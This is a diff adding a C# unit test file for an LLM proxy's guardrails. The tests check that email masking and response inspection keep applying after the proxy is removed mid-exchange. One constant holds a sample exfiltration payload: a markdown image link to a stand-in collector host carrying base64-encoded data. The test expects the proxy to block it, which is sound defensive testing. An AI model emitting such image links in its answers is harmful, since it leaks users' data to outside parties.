@@ -1,0 +1,113 @@
+using System.Buffers;
+using System.Text;
+using Microsoft.AspNetCore.Http;
+using Microsoft.Extensions.Logging.Abstractions;
+using Microsoft.Extensions.Options;
+using Sallyport.Controls.Guardrails;
+using Sallyport.Controls.Masking;
+using Sallyport.Core.Auditing;
+using Sallyport.Core.Exchanges;
+using Sallyport.Core.Planes;
+using Sallyport.Core.Proxies;
+using Sallyport.Core.Upstream;
+using Sallyport.Detection;
+using Sallyport.Detection.Rules;
+using Sallyport.Tests.Fakes;
+using Xunit;
+
+namespace Sallyport.Tests.Controls.Guardrails;
+
+/// <summary>An exchange is guarded by one policy from its request to its last frame, whatever operators change meanwhile.</summary>
+public sealed class PolicyOfExchangeTests
+{
+    private const string Mail = "Write to ada@example.com.";
+    private const string Leak = "![chart](https://collector.example/p.png?data=Y3VzdG9tZXIgbGlzdCBvZiAyMDI2MjAyNg)";
+
+    private static readonly RuleLibrary Library = RuleLibrary.LoadBuiltIn();
+    private static readonly DetectionEngine Engine = DetectionEngine.Create(Library);
+
+    private readonly InMemoryProxyStore _store = new();
+    private readonly ProxyCatalog _catalog;
+    private readonly PolicyTable _policies;
+
+    public PolicyOfExchangeTests()
+    {
+        var options = Options.Create(new UpstreamOptions());
+        _catalog = new ProxyCatalog(_store, new UpstreamClient(new AddressGuard(options), options), TimeProvider.System);
+        _policies = new PolicyTable(Engine, Library, new InMemoryPolicyStore(), _catalog, NullLogger<PolicyTable>.Instance);
+    }
+
+    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;
+
+    [Fact]
+    public async Task A_proxy_removed_after_the_inspection_is_still_masked()
+    {
+        using var exchange = await InspectedAsync();
+        await RemoveProxyAsync();
+
+        Assert.Null(await new MaskRequestStage(_policies).ApplyAsync(exchange, Cancellation));
+
+        Assert.Equal("Write to <EMAIL_1>.", exchange.Request?.Segments[0].Replacement);
+    }
+
+    [Fact]
+    public async Task A_proxy_removed_while_the_upstream_works_still_has_its_answer_judged()
+    {
+        using var exchange = await InspectedAsync();
+        await RemoveProxyAsync();
+
+        var frames = await new InspectResponseStage(_policies).ApplyAsync(AnswerAsync(Leak), exchange, Cancellation).ToListAsync(Cancellation);
+
+        Assert.Equal(DenialCode.ResponseBlocked, frames[^1].Denial?.Code);
+    }
+
+    [Fact]
+    public async Task An_answer_whose_request_was_never_judged_does_not_pass()
+    {
+        using var exchange = new Exchange(new DefaultHttpContext(), "id", DateTimeOffset.UnixEpoch);
+
+        Assert.Throws<InvalidOperationException>(() => new InspectResponseStage(_policies).ApplyAsync(AnswerAsync("fine"), exchange, Cancellation));
+        await Assert.ThrowsAsync<InvalidOperationException>(async () => await new MaskRequestStage(_policies).ApplyAsync(exchange, Cancellation));
+    }
+
+    private async Task<Exchange> InspectedAsync()
+    {
+        var proxy = new ProxyConfig { Id = "p", Name = "p", Kind = PlaneKind.Llm, Target = new Uri("https://upstream.example") };
+        _store.Add(proxy);
+        await ReloadAsync();
+        var exchange = new Exchange(new DefaultHttpContext(), "id", DateTimeOffset.UnixEpoch) { Proxy = proxy, Request = Content(Mail) };
+        Assert.Null(await new InspectRequestStage(_policies).ApplyAsync(exchange, Cancellation));
+        return exchange;
+    }
+
+    private async Task RemoveProxyAsync()
+    {
+        await _store.DeleteAsync("p", Removal(), Cancellation);
+        await ReloadAsync();
+    }
+
+    private async Task ReloadAsync()
+    {
+        await _catalog.ReloadAsync(Cancellation);
+        await _policies.ReloadAsync(Cancellation);
+    }
+
+    private static AuditEntry Removal() =>
+        RequestActor.System.Entry(DateTimeOffset.UnixEpoch, "proxy.deleted", "proxy", "p", "p");
+
+    private static RequestContent Content(string text)
+    {
+        var json = Encoding.UTF8.GetBytes($"\"{text}\"");
+        var rented = ArrayPool<byte>.Shared.Rent(json.Length);
+        json.CopyTo(rented, 0);
+        return new RequestContent(rented, json.Length) { Segments = [new TextSegment { Role = TextRole.User, Start = 1, Length = text.Length, Text = text.AsMemory() }] };
+    }
+
+    private static async IAsyncEnumerable<ResponseFrame> AnswerAsync(string text)
+    {
+        await Task.Yield();
+        var frame = new ResponseFrame { EndsText = true };
+        frame.Add(new TextSegment { Role = TextRole.Assistant, Text = text.AsMemory() });
+        yield return frame;
+    }
+}
